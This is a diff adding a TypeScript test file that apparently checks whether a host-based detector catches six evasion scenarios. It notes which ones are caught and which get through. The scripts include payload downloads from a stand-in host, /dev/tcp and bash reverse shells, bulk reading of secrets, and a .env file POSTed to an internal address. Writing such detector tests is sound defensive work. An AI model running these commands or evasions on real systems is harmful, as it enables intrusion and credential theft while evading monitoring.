@@ -1,0 +1,77 @@
+import { evasions, HUNTED, SECRETS } from "./evasion.ts";
+import { prepared, PROGRAM } from "./program.ts";
+
+const DROP = ["T1105", "T1059", "T1059.004", "T1204"] as const;
+
+/** Losing the trail: nobody above, nobody twice, nothing fast, everything as usual, or all of it under a flood. */
+export const TRAILS = evasions([
+  {
+    id: "evasion.double-fork",
+    title: "a download that is run by an orphan in a session of its own",
+    techniques: DROP,
+    needs: ["cc", "curl"],
+    prepare: prepared(),
+    script: `act; curl -s -o $HOOD/x http://$FAR/payload; chmod 755 $HOOD/x; ${PROGRAM} orphan $HOOD/x -c 'id; exec 3<>/dev/tcp/'$FAR'/8443; read -r -t 1 <&3'`,
+    hides: "dropped-file",
+    outcome: "caught",
+    because: "ancestors are kept by who forked, whoever has adopted the child",
+  },
+  {
+    id: "evasion.scattered-hunt",
+    title: "each secret is read by an orphan of its own",
+    techniques: HUNTED,
+    needs: ["cc"],
+    prepare: prepared(),
+    script: `act; ${PROGRAM} scatter 30 ${SECRETS}; sleep 0.5`,
+    hides: "credentials",
+    outcome: "caught",
+    because: "",
+  },
+  {
+    id: "evasion.slow-drip",
+    title: "one secret every two seconds, each by another orphan",
+    techniques: HUNTED,
+    needs: ["cc"],
+    variant: "slow",
+    seconds: 14,
+    prepare: prepared(),
+    script: `act; ${PROGRAM} scatter 2000 ${SECRETS}; sleep 0.5`,
+    hides: "credentials",
+    outcome: "caught",
+    because: "",
+  },
+  {
+    id: "evasion.flood-first",
+    title:
+      "three seconds of opens, removals and forks as fast as they go, and a shell at a connection in the midst of it",
+    techniques: ["T1059", "T1059.004", "T1095", "T1071", "T1571", "T1499", "T1499.001"],
+    needs: ["cc", "bash"],
+    seconds: 14,
+    prepare: prepared(),
+    script: `${PROGRAM} flood 4 /bin/true & ${PROGRAM} flood 4 /bin/true & sleep 2; act; bash -c 'exec bash -i >& /dev/tcp/'$FAR'/4444 0>&1'; wait`,
+    hides: "reverse-shell",
+    outcome: "caught",
+    because: "execs, forks and ends have the last eighth of the ring to themselves; opens are lost first",
+  },
+  {
+    id: "evasion.mimicry",
+    title:
+      "the exploited server's own program reads its own file and hands it to the address that it always asks, in its usual order",
+    techniques: ["T1041", "T1048", "T1552", "T1552.001"],
+    script: `act; /opt/portal/bin/portal -e 'const f=require("fs"),c=require("child_process"); const s=f.readFileSync("/srv/portal/.env","utf8");
+fetch("http://10.20.0.5:8080/",{method:"POST",body:s}).then(r=>r.text()).then(()=>{c.spawnSync("/usr/bin/sha256sum",["/srv/portal/index.html"]);c.spawnSync("/usr/bin/date")})'; sleep 0.5`,
+    hides: "credentials",
+    outcome: "through",
+    because: "programs, files, children and addresses are those of every day; what is in the bytes is not looked at",
+  },
+  {
+    id: "evasion.framing",
+    title: "an attacker makes an innocent job run his file, so that the job is the one who is seen",
+    techniques: DROP,
+    needs: ["curl"],
+    script: `curl -s -o $HOOD/plugin http://$FAR/payload; chmod 755 $HOOD/plugin; act; setsid --fork sh -c 'sleep 0.5; $HOOD/plugin -c "id; exec 3<>/dev/tcp/$FAR/8443; read -r -t 1 <&3"'; sleep 2`,
+    hides: "dropped-file",
+    outcome: "caught",
+    because: "",
+  },
+]);
